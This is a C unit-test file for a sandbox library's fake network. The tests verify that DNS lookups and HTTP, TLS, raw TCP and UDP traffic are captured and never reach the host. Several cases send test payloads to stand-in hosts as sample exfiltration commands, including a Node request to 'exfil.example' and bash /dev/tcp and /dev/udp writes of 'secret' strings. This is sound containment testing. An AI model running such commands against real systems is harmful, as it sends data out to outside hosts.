/* test_fakenet.c — the fake internet end to end through the libsbx API: DNS answers, HTTP/TLS/raw
 * TCP and UDP captures, conn_id linking, fast failure of clients, /etc inside, and nothing
 * reaching the host. Runs as root and rootless. Programs the host lacks (node, curl, bash,
 * getent) make their cases skip with a reason. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "sandbox.h"
#include "testutil.h"

static const char *const ENV[] = {"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/tmp", "LANG=C", NULL};

/* A deep copy of the fields the cases look at. */
struct rec {
    sbx_event_kind kind;
    int pid;
    uint64_t conn_id;
    char syscall[32];
    struct sbx_sockaddr addr;
    char name[256], answer[256], transport[8];
    unsigned qtype;
    char proto[8], dns_name[256], method[32], target[512], host[256], sni[256], alpn[64],
        tls_error[256], detail[256];
    int has_dns_name, has_tls_error;
    unsigned char data[4096];
    size_t len;
    uint64_t total;
};

struct fixture {
    struct sbx_tmpfs areas[1];
    struct sbx_config cfg;
    struct sbx *sb;
    struct rec *recs;
    size_t nrecs, cap;
};

static void copy_str(char *dst, size_t cap, const char *src)
{
    snprintf(dst, cap, "%s", src ? src : "");
}

static void on_event(void *ctx, const struct sbx_event *ev)
{
    struct fixture *f = ctx;
    if (ev->kind != SBX_EV_NET && ev->kind != SBX_EV_DNS && ev->kind != SBX_EV_PAYLOAD &&
        ev->kind != SBX_EV_NOTE)
        return;
    if (f->nrecs == f->cap) {
        f->cap = f->cap ? 2 * f->cap : 64;
        f->recs = realloc(f->recs, f->cap * sizeof *f->recs);
        assert_non_null(f->recs);
    }
    struct rec *r = &f->recs[f->nrecs++];
    memset(r, 0, sizeof *r);
    r->kind = ev->kind;
    r->pid = ev->pid;
    r->conn_id = ev->conn_id;
    copy_str(r->syscall, sizeof r->syscall, ev->syscall);
    r->addr = ev->addr;
    copy_str(r->detail, sizeof r->detail, ev->detail);
    if (ev->kind == SBX_EV_DNS) {
        copy_str(r->name, sizeof r->name, ev->dns.name);
        copy_str(r->answer, sizeof r->answer, ev->dns.answer);
        copy_str(r->transport, sizeof r->transport, ev->dns.transport);
        r->qtype = ev->dns.qtype;
    }
    if (ev->kind == SBX_EV_PAYLOAD) {
        const struct sbx_payload_event *p = &ev->payload;
        copy_str(r->transport, sizeof r->transport, p->transport);
        copy_str(r->proto, sizeof r->proto, p->proto);
        r->has_dns_name = p->dns_name != NULL;
        copy_str(r->dns_name, sizeof r->dns_name, p->dns_name);
        copy_str(r->method, sizeof r->method, p->http_method);
        copy_str(r->target, sizeof r->target, p->http_target);
        copy_str(r->host, sizeof r->host, p->http_host);
        copy_str(r->sni, sizeof r->sni, p->tls_sni);
        copy_str(r->alpn, sizeof r->alpn, p->tls_alpn);
        r->has_tls_error = p->tls_error != NULL;
        copy_str(r->tls_error, sizeof r->tls_error, p->tls_error);
        r->len = p->len < sizeof r->data ? p->len : sizeof r->data;
        if (r->len) memcpy(r->data, p->data, r->len);
        r->total = p->total;
    }
}

static int open_sandbox(struct fixture *f, const struct sbx_ca *ca)
{
    f->areas[0] = (struct sbx_tmpfs){.sandbox_path = "/tmp"};
    f->cfg = (struct sbx_config){.hostname = "fnettest", .tmpfs = f->areas, .ntmpfs = 1,
                                 .on_event = on_event, .event_ctx = f};
    f->cfg.fakenet.enabled = 1;
    f->cfg.fakenet.ca = ca;
    sbx_error err = {0};
    if (sbx_open(&f->cfg, &f->sb, &err) < 0) fail_msg("sbx_open: %s", err.msg);
    return 0;
}

static int setup(void **state)
{
    struct fixture *f = calloc(1, sizeof *f);
    assert_non_null(f);
    open_sandbox(f, NULL);
    *state = f;
    return 0;
}

static void close_sandbox(struct fixture *f)
{
    sbx_error err = {0};
    if (f->sb) sbx_close(f->sb, 0, NULL, &err);
    f->sb = NULL;
}

static int teardown(void **state)
{
    struct fixture *f = *state;
    close_sandbox(f);
    free(f->recs);
    free(f);
    return 0;
}

static __attribute__((noinline)) int has_sub(const char *hay, const char *needle)
{
    return strstr(hay, needle) != NULL;
}

static int have(const char *prog)
{
    char p[128];
    static const char *const dirs[] = {"/usr/local/bin", "/usr/bin", "/bin"};
    for (size_t i = 0; i < 3; i++) {
        snprintf(p, sizeof p, "%s/%s", dirs[i], prog);
        if (access(p, X_OK) == 0) return 1;
    }
    return 0;
}

#define NEED(prog)                                                                         \
    do {                                                                                   \
        if (!have(prog)) {                                                                 \
            print_message("# skip: %s is not installed on this host\n", prog);            \
            skip();                                                                        \
        }                                                                                  \
    } while (0)

/* Run argv; returns the status (caller frees); *wall_ms gets the command's wall time. */
static void run(struct fixture *f, const char *const *argv, const char *const *env,
                struct sbx_status *st, double *wall_ms)
{
    struct sbx_command cmd = {.argv = argv, .envp = env ? env : ENV, .cwd = "/tmp", .timeout_ms = 20000};
    sbx_error err = {0};
    if (sbx_exec(f->sb, &cmd, st, &err) < 0) fail_msg("sbx_exec(%s): %s", argv[0], err.msg);
    if (wall_ms) *wall_ms = (double)(st->end_ns - st->start_ns) / 1e6;
}

static void sh(struct fixture *f, const char *shell, const char *script, struct sbx_status *st,
               double *wall_ms)
{
    const char *argv[] = {shell, "-c", script, NULL};
    run(f, argv, NULL, st, wall_ms);
}

static void node(struct fixture *f, const char *js, const char *const *env, struct sbx_status *st,
                 double *wall_ms)
{
    const char *argv[] = {"node", "-e", js, NULL};
    run(f, argv, env, st, wall_ms);
}

static const struct rec *find(const struct fixture *f, sbx_event_kind kind, int (*match)(const struct rec *, const void *),
                              const void *arg)
{
    for (size_t i = 0; i < f->nrecs; i++)
        if (f->recs[i].kind == kind && (!match || match(&f->recs[i], arg))) return &f->recs[i];
    return NULL;
}

static int dns_named(const struct rec *r, const void *name) { return !strcmp(r->name, name); }
static int dns_named_type(const struct rec *r, const void *arg)
{
    const struct { const char *name; unsigned qtype; } *a = arg;
    return !strcmp(r->name, a->name) && r->qtype == a->qtype;
}
static int payload_port(const struct rec *r, const void *port) { return r->addr.port == *(const unsigned *)port; }
static int net_connect_port(const struct rec *r, const void *port)
{
    return !strcmp(r->syscall, "connect") && r->addr.port == *(const unsigned *)port;
}

static void dump(const struct fixture *f)
{
    for (size_t i = 0; i < f->nrecs; i++) {
        const struct rec *r = &f->recs[i];
        print_message("# ev kind=%d sys=%s addr=%s:%u conn=%llu name=%s answer=%s proto=%s detail=%s\n",
                      r->kind, r->syscall, r->addr.addr, r->addr.port, (unsigned long long)r->conn_id,
                      r->name, r->answer, r->proto, r->detail);
    }
}

/* ---- cases ---- */

static void etc_files(void **state)
{
    struct fixture *f = *state;
    struct sbx_status st;
    sh(f, "/bin/sh", "cat /etc/resolv.conf /etc/hosts; grep hosts: /etc/nsswitch.conf", &st, NULL);
    assert_true(st.exited && st.exit_code == 0);
    assert_non_null(strstr(st.out.data, "nameserver " SBX_FAKENET_RESOLVER "\n"));
    assert_non_null(strstr(st.out.data, "127.0.0.1\tlocalhost\n"));
    assert_non_null(strstr(st.out.data, "::1\tlocalhost ip6-localhost"));
    assert_non_null(strstr(st.out.data, "127.0.1.1\tfnettest\n"));
    assert_non_null(strstr(st.out.data, "hosts: files dns\n"));
    sbx_status_free(&st);
}

static void dns_answers_and_logs(void **state)
{
    struct fixture *f = *state;
    NEED("getent");
    struct sbx_status st;
    sh(f, "/bin/sh", "getent ahostsv4 one.example | head -1; getent ahostsv4 two.example | head -1; "
                     "getent ahostsv4 ONE.example | head -1", &st, NULL);
    assert_true(st.exited && st.exit_code == 0);
    char a1[64] = "", a2[64] = "", a3[64] = "";
    assert_int_equal(sscanf(st.out.data, "%63s %*s %*s %63s %*s %*s %63s", a1, a2, a3), 3);
    sbx_status_free(&st);
    assert_memory_equal(a1, "127.1.0.", 8);
    assert_memory_equal(a2, "127.1.0.", 8);
    assert_string_not_equal(a1, a2);   /* distinct per name */
    assert_string_equal(a1, a3);       /* stable, case-insensitive */
    const struct rec *r = find(f, SBX_EV_DNS, dns_named, "one.example");
    if (!r) dump(f);
    assert_non_null(r);
    assert_true(r->qtype == 1 || r->qtype == 28);
    assert_string_equal(r->transport, "udp");
    struct { const char *name; unsigned qtype; } q = {"two.example", 1};
    r = find(f, SBX_EV_DNS, dns_named_type, &q);
    assert_non_null(r);
    assert_string_equal(r->answer, a2);
    assert_true(r->conn_id != 0);   /* the resolver's connect to port 53 */
}

static void txt_and_mx_answered(void **state)
{
    struct fixture *f = *state;
    NEED("node");
    struct sbx_status st;
    node(f, "const d=require('dns');d.resolveTxt('t.example',(e,r)=>{console.log('txt',e?e.code:JSON.stringify(r));"
            "d.resolveMx('m.example',(e2,m)=>console.log('mx',e2?e2.code:JSON.stringify(m)));});", NULL, &st, NULL);
    assert_true(st.exited && st.exit_code == 0);
    assert_non_null(strstr(st.out.data, "txt [[\"\"]]"));
    assert_non_null(strstr(st.out.data, "mx [{\"exchange\":\"mail.m.example\",\"priority\":10}]"));
    sbx_status_free(&st);
    struct { const char *name; unsigned qtype; } q = {"t.example", 16};
    assert_non_null(find(f, SBX_EV_DNS, dns_named_type, &q));
    q.name = "m.example";
    q.qtype = 15;
    const struct rec *r = find(f, SBX_EV_DNS, dns_named_type, &q);
    assert_non_null(r);
    assert_string_equal(r->answer, "10 mail.m.example");
}

static void node_http_get_is_captured_and_fails_fast(void **state)
{
    struct fixture *f = *state;
    NEED("node");
    struct sbx_status st;
    double ms;
    node(f, "require('http').get('http://exfil.example/p?q=1',r=>{console.log('status',r.statusCode);r.resume();})"
            ".on('error',e=>console.log('error',e.message));", NULL, &st, &ms);
    assert_true(st.exited && st.exit_code == 0);
    assert_string_equal(st.out.data, "status 503\n");
    sbx_status_free(&st);
    print_message("# node http.get: %.0f ms (bench/fakenet measures it)\n", ms);
    unsigned port = 80;
    const struct rec *p = find(f, SBX_EV_PAYLOAD, payload_port, &port);
    const struct rec *c = find(f, SBX_EV_NET, net_connect_port, &port);
    if (!p || !c) dump(f);
    assert_non_null(p);
    assert_non_null(c);
    assert_string_equal(p->transport, "tcp");
    assert_string_equal(p->proto, "http");
    assert_string_equal(p->method, "GET");
    assert_string_equal(p->target, "/p?q=1");
    assert_string_equal(p->host, "exfil.example");
    assert_true(p->has_dns_name);
    assert_string_equal(p->dns_name, "exfil.example");
    assert_true(p->conn_id != 0);
    assert_true(p->conn_id == c->conn_id);
    assert_true(p->pid == c->pid && p->pid > 0);
    assert_memory_equal(c->addr.addr, "127.1.0.", 8);
}

static void raw_tcp_to_literal_ip(void **state)
{
    struct fixture *f = *state;
    NEED("bash");
    struct sbx_status st;
    double ms;
    sh(f, "/bin/bash", "exec 3<>/dev/tcp/203.0.113.9/4444 && printf 'raw-secret-123' >&3 && exec 3>&- && echo sent",
       &st, &ms);
    assert_true(st.exited && st.exit_code == 0);
    sbx_status_free(&st);
    unsigned port = 4444;
    const struct rec *p = find(f, SBX_EV_PAYLOAD, payload_port, &port);
    const struct rec *c = find(f, SBX_EV_NET, net_connect_port, &port);
    if (!p) dump(f);
    assert_non_null(p);
    assert_non_null(c);
    assert_string_equal(p->transport, "tcp");
    assert_string_equal(p->proto, "raw");
    assert_string_equal(p->addr.addr, "203.0.113.9");
    assert_false(p->has_dns_name);
    assert_int_equal(p->len, 14);
    assert_memory_equal(p->data, "raw-secret-123", 14);
    assert_true(p->conn_id == c->conn_id && p->conn_id != 0);
}

static void udp_datagram(void **state)
{
    struct fixture *f = *state;
    NEED("bash");
    struct sbx_status st;
    sh(f, "/bin/bash", "printf 'udp-secret' >/dev/udp/198.51.100.7/9999", &st, NULL);
    assert_true(st.exited && st.exit_code == 0);
    sbx_status_free(&st);
    unsigned port = 9999;
    const struct rec *p = find(f, SBX_EV_PAYLOAD, payload_port, &port);
    if (!p) dump(f);
    assert_non_null(p);
    assert_string_equal(p->transport, "udp");
    assert_string_equal(p->proto, "raw");
    assert_string_equal(p->addr.addr, "198.51.100.7");
    assert_int_equal(p->len, 10);
    assert_memory_equal(p->data, "udp-secret", 10);
    assert_true(p->conn_id != 0);
}

static void dns_over_tcp_and_malformed(void **state)
{
    struct fixture *f = *state;
    NEED("bash");
    NEED("getent");
    struct sbx_status st;
    /* One length-prefixed query for tcp.example A, then garbage over UDP, then a normal lookup. */
    sh(f, "/bin/bash",
       "exec 3<>/dev/tcp/" SBX_FAKENET_RESOLVER "/53; "
       "printf '\\x00\\x1d\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03tcp\\x07example\\x00\\x00\\x01\\x00\\x01' >&3; "
       "head -c 2 <&3 | od -An -tx1; exec 3>&-; "
       "printf 'not a dns query at all' >/dev/udp/" SBX_FAKENET_RESOLVER "/53; "
       "getent ahostsv4 after.example | head -1",
       &st, NULL);
    assert_true(st.exited && st.exit_code == 0);
    assert_non_null(strstr(st.out.data, "127.1.0."));
    sbx_status_free(&st);
    const struct rec *r = find(f, SBX_EV_DNS, dns_named, "tcp.example");
    if (!r) dump(f);
    assert_non_null(r);
    assert_string_equal(r->transport, "tcp");
    assert_int_equal(r->qtype, 1);
    assert_memory_equal(r->answer, "127.1.0.", 8);
    unsigned port = 53;
    const struct rec *p = find(f, SBX_EV_PAYLOAD, payload_port, &port);
    assert_non_null(p);
    assert_string_equal(p->proto, "dns");
    assert_string_equal(p->transport, "udp");
    assert_memory_equal(p->data, "not a dns query", 15);
    assert_non_null(find(f, SBX_EV_DNS, dns_named, "after.example"));
}

static void curl_https_without_ca_records_sni(void **state)
{
    struct fixture *f = *state;
    NEED("curl");
    struct sbx_status st;
    double ms;
    sh(f, "/bin/sh", "curl -sS -m 10 https://secure.example/x?y=2; echo rc=$?", &st, &ms);
    assert_true(st.exited);
    assert_null(strstr(st.out.data, "rc=0"));
    assert_null(strstr(st.out.data, "rc=28"));   /* failed at once, not at its own 10 s timeout */
    sbx_status_free(&st);
    print_message("# curl https (no CA): %.0f ms\n", ms);
    (void)ms;   /* answered, not timed out: the reply asserted above says so */
    unsigned port = 443;
    const struct rec *p = find(f, SBX_EV_PAYLOAD, payload_port, &port);
    for (size_t i = 0; p && i < f->nrecs; i++)   /* happy eyeballs may open empty connections */
        if (f->recs[i].kind == SBX_EV_PAYLOAD && f->recs[i].addr.port == 443 && !strcmp(f->recs[i].proto, "tls"))
            p = &f->recs[i];
    if (!p) dump(f);
    assert_non_null(p);
    assert_string_equal(p->proto, "tls");
    assert_string_equal(p->sni, "secure.example");
    assert_true(has_sub(p->alpn, "http/1.1"));
    assert_string_equal(p->dns_name, "secure.example");
    assert_true(p->len > 0 && p->data[0] == 0x16);
}

static void curl_and_wget_get_503(void **state)
{
    struct fixture *f = *state;
    struct sbx_status st;
    double ms;
    if (have("curl")) {
        sh(f, "/bin/sh", "curl -s -o /dev/null -w '%{http_code}' http://c.example/q", &st, &ms);
        assert_string_equal(st.out.data, "503");
        sbx_status_free(&st);
        (void)ms;   /* answered, not timed out: the reply asserted above says so */
    }
    if (have("wget")) {
        sh(f, "/bin/sh", "wget -q -t 1 -O /dev/null http://w.example/q; echo rc=$?", &st, &ms);
        assert_non_null(strstr(st.out.data, "rc=8"));   /* server error response */
        sbx_status_free(&st);
        (void)ms;   /* answered, not timed out: the reply asserted above says so */
    }
    if (!have("curl") && !have("wget")) {
        print_message("# skip: neither curl nor wget is installed on this host\n");
        skip();
    }
}

static void https_intercepted_with_ca(void **state)
{
    (void)state;
    NEED("node");
    struct sbx_ca *ca = NULL;
    sbx_error err = {0};
    if (sbx_ca_create(&ca, &err) < 0) {
        print_message("# skip: no CA (%s): TLS interception lands with the tlsmitm branch\n", err.msg);
        skip();
    }
    struct fixture *f = calloc(1, sizeof *f);
    assert_non_null(f);
    open_sandbox(f, ca);
    const char *env[] = {"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/tmp", "LANG=C",
                         "NODE_OPTIONS=--use-openssl-ca", "SSL_CERT_FILE=" SBX_CA_BUNDLE_PATH, NULL};
    struct sbx_status st;
    double ms;
    node(f, "require('https').get('https://secure.example/s?k=v',r=>{console.log('status',r.statusCode);r.resume();})"
            ".on('error',e=>console.log('error',e.message));", env, &st, &ms);
    assert_true(st.exited && st.exit_code == 0);
    assert_string_equal(st.out.data, "status 503\n");
    sbx_status_free(&st);
    (void)ms;   /* answered, not timed out: the reply asserted above says so */
    unsigned port = 443;
    const struct rec *p = find(f, SBX_EV_PAYLOAD, payload_port, &port);
    if (!p) dump(f);
    assert_non_null(p);
    assert_string_equal(p->proto, "https");
    assert_string_equal(p->method, "GET");
    assert_string_equal(p->target, "/s?k=v");
    assert_string_equal(p->sni, "secure.example");
    assert_string_equal(p->dns_name, "secure.example");
    /* curl trusts the system bundle, which holds only our CA. */
    if (have("curl")) {
        f->nrecs = 0;
        sh(f, "/bin/sh", "curl -s -o /dev/null -w '%{http_code}' 'https://curl.example/c?d=1'", &st, &ms);
        assert_string_equal(st.out.data, "503");
        sbx_status_free(&st);
        p = find(f, SBX_EV_PAYLOAD, payload_port, &port);
        assert_non_null(p);
        assert_string_equal(p->proto, "https");
        assert_string_equal(p->target, "/c?d=1");
    }
    /* A client that does not trust our CA (node's own bundle, like a pinned client): "tls" with
     * the reason, and it fails at once. */
    f->nrecs = 0;
    node(f, "require('https').get('https://pinned.example/',r=>console.log('status',r.statusCode))"
            ".on('error',e=>console.log('error'));", NULL, &st, &ms);
    assert_string_equal(st.out.data, "error\n");
    sbx_status_free(&st);
    (void)ms;   /* answered, not timed out: the reply asserted above says so */
    p = find(f, SBX_EV_PAYLOAD, payload_port, &port);
    if (!p) dump(f);
    assert_non_null(p);
    assert_string_equal(p->proto, "tls");
    assert_true(p->has_tls_error);
    assert_string_equal(p->sni, "pinned.example");
    print_message("# pinned client: tls_error \"%s\"\n", p->tls_error);
    close_sandbox(f);
    free(f->recs);
    free(f);
    sbx_ca_free(ca);
}

/* ---- nothing reaches the host ---- */

static int host_socket(int type, const char *addr, unsigned *port)
{
    int s = socket(AF_INET, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    assert_true(s >= 0);
    struct sockaddr_in a = {.sin_family = AF_INET};
    inet_pton(AF_INET, addr, &a.sin_addr);
    assert_int_equal(bind(s, (struct sockaddr *)&a, sizeof a), 0);
    if (type == SOCK_STREAM) assert_int_equal(listen(s, 8), 0);
    socklen_t l = sizeof a;
    assert_int_equal(getsockname(s, (struct sockaddr *)&a, &l), 0);
    *port = ntohs(a.sin_port);
    return s;
}

static int host_saw_something(int s, int type)
{
    struct pollfd p = {s, POLLIN, 0};
    return poll(&p, 1, type == SOCK_STREAM ? 200 : 200) > 0;
}

static void host_listeners_see_nothing(void **state)
{
    struct fixture *f = *state;
    NEED("bash");
    unsigned p_lo, p_any, p_udp;
    int lo = host_socket(SOCK_STREAM, "127.0.0.1", &p_lo);
    int any = host_socket(SOCK_STREAM, "0.0.0.0", &p_any);
    int udp = host_socket(SOCK_DGRAM, "0.0.0.0", &p_udp);
    /* The host's own non-loopback IPv4 address, when it has one. */
    char ext[INET_ADDRSTRLEN] = "";
    struct ifaddrs *ifs = NULL;
    if (getifaddrs(&ifs) == 0) {
        for (struct ifaddrs *i = ifs; i && !ext[0]; i = i->ifa_next)
            if (i->ifa_addr && i->ifa_addr->sa_family == AF_INET) {
                const struct sockaddr_in *in = (const struct sockaddr_in *)(const void *)i->ifa_addr;
                if ((ntohl(in->sin_addr.s_addr) >> 24) != 127) inet_ntop(AF_INET, &in->sin_addr, ext, sizeof ext);
            }
        freeifaddrs(ifs);
    }
    char script[1024];
    snprintf(script, sizeof script,
             "for a in 127.0.0.1 %s; do "
             "  (exec 3<>/dev/tcp/$a/%u && printf 'to-host-lo' >&3); "
             "  (exec 3<>/dev/tcp/$a/%u && printf 'to-host-any' >&3); "
             "  printf 'to-host-udp' >/dev/udp/$a/%u; "
             "done; echo done",
             ext, p_lo, p_any, p_udp);
    struct sbx_status st;
    sh(f, "/bin/bash", script, &st, NULL);
    assert_true(st.exited && st.exit_code == 0);
    assert_string_equal(st.out.data, "done\n");
    sbx_status_free(&st);
    assert_false(host_saw_something(lo, SOCK_STREAM));
    assert_false(host_saw_something(any, SOCK_STREAM));
    assert_false(host_saw_something(udp, SOCK_DGRAM));
    close(lo);
    close(any);
    close(udp);
    /* The sandbox side captured each of them. */
    const struct rec *r = find(f, SBX_EV_PAYLOAD, payload_port, &p_lo);
    if (!r) dump(f);
    assert_non_null(r);
    assert_memory_equal(r->data, "to-host-lo", 10);
    r = find(f, SBX_EV_PAYLOAD, payload_port, &p_any);
    assert_non_null(r);
    assert_memory_equal(r->data, "to-host-any", 11);
    r = find(f, SBX_EV_PAYLOAD, payload_port, &p_udp);
    assert_non_null(r);
    assert_string_equal(r->transport, "udp");
    assert_memory_equal(r->data, "to-host-udp", 11);
    size_t tcp = 0;
    for (size_t i = 0; i < f->nrecs; i++)
        if (f->recs[i].kind == SBX_EV_PAYLOAD && !strcmp(f->recs[i].transport, "tcp")) tcp++;
    assert_int_equal(tcp, ext[0] ? 4 : 2);
}

/* A package that binds a port we listen on (after connecting to it) gets it. */
static void package_port_wins(void **state)
{
    struct fixture *f = *state;
    NEED("node");
    struct sbx_status st;
    node(f, "const net=require('net');const s=net.connect(8080,'127.0.0.1',()=>s.end('first'));s.resume();"
            "s.on('close',()=>{const srv=net.createServer(c=>{c.on('data',d=>console.log('own',String(d)));"
            "c.on('end',()=>srv.close());}).listen(8080,'127.0.0.1',()=>{const t=net.connect(8080,'127.0.0.1',"
            "()=>t.end('second'));});srv.on('error',e=>console.log('listen error',e.code));});",
         NULL, &st, NULL);
    assert_true(st.exited && st.exit_code == 0);
    assert_string_equal(st.out.data, "own second\n");
    sbx_status_free(&st);
    unsigned port = 8080;
    const struct rec *r = find(f, SBX_EV_PAYLOAD, payload_port, &port);
    assert_non_null(r);
    assert_memory_equal(r->data, "first", 5);
}

/* A connection still open when the command ends is reported at sbx_close. */
static void open_connection_flushed_at_close(void **state)
{
    struct fixture *f = *state;
    NEED("bash");
    struct sbx_status st;
    /* The connection stays open in a leftover (sleep inherits fd 3) after the command ends. */
    sh(f, "/bin/bash", "exec 3<>/dev/tcp/192.0.2.1/7777; printf 'held' >&3; sleep 3 >/dev/null 2>&1 & echo bg",
       &st, NULL);
    unsigned port = 7777;
    assert_null(find(f, SBX_EV_PAYLOAD, payload_port, &port));   /* still open */
    sbx_status_free(&st);
    close_sandbox(f);
    const struct rec *r = find(f, SBX_EV_PAYLOAD, payload_port, &port);
    if (!r) dump(f);
    assert_non_null(r);
    assert_memory_equal(r->data, "held", 4);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(etc_files, setup, teardown),
        cmocka_unit_test_setup_teardown(dns_answers_and_logs, setup, teardown),
        cmocka_unit_test_setup_teardown(txt_and_mx_answered, setup, teardown),
        cmocka_unit_test_setup_teardown(node_http_get_is_captured_and_fails_fast, setup, teardown),
        cmocka_unit_test_setup_teardown(raw_tcp_to_literal_ip, setup, teardown),
        cmocka_unit_test_setup_teardown(udp_datagram, setup, teardown),
        cmocka_unit_test_setup_teardown(dns_over_tcp_and_malformed, setup, teardown),
        cmocka_unit_test_setup_teardown(curl_https_without_ca_records_sni, setup, teardown),
        cmocka_unit_test_setup_teardown(curl_and_wget_get_503, setup, teardown),
        cmocka_unit_test(https_intercepted_with_ca),
        cmocka_unit_test_setup_teardown(host_listeners_see_nothing, setup, teardown),
        cmocka_unit_test_setup_teardown(package_port_wins, setup, teardown),
        cmocka_unit_test_setup_teardown(open_connection_flushed_at_close, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
